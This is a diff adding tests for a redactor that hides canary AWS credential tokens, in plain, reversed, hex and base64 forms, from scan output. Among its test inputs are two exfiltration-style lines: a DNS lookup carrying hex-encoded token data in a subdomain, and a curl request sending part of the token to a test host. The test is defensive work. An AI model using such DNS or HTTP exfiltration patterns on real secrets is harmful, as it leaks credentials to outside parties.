@@ -50,3 +50,39 @@ describe('runRedactor', () => {
     );
   });
 });
+
+describe('runRedactor on encoded canaries', () => {
+  const token = 'AKIA7F3C9E21B04D6A58';
+  const redactor = runRedactor(makeConfig(), {
+    home: '/root',
+    canaries: [{ kind: 'aws-credentials', path: '.aws/credentials', token }],
+  });
+  const hex = Buffer.from(token).toString('hex');
+
+  it('redacts every form the scan finds, and pieces of 10 bytes or more, with the token marker', () => {
+    const forms = [
+      token.toLowerCase(),
+      [...token].reverse().join(''),
+      hex,
+      hex.toUpperCase(),
+      Buffer.from(`x${token}`).toString('base64'),
+      `getent hosts 0.${hex.slice(0, 22)}.edge.cdn-warm.net`,
+      `curl 'http://a.test/?p=${token.slice(6)}'`,
+    ];
+    for (const text of forms) {
+      const out = redactor.text(text);
+      expect(out, text).toMatch(/\[REDACTED:canary-aws-credentials:[0-9a-f]{8}\]/);
+      expect(out).not.toContain(hex.slice(0, 20));
+      expect(out).not.toContain(token.slice(6, 16));
+    }
+    // Structured evidence too (a DNS record's host).
+    expect(redactor.value({ host: `${hex.slice(0, 22)}.x.test` }).host).toMatch(
+      /^\[REDACTED:canary-aws-credentials:/,
+    );
+  });
+
+  it('leaves a short piece and honest hex alone', () => {
+    const text = `sha ${'0123456789abcdef'.repeat(4)} piece ${token.slice(4, 12)}`;
+    expect(redactor.text(text)).toBe(text);
+  });
+});
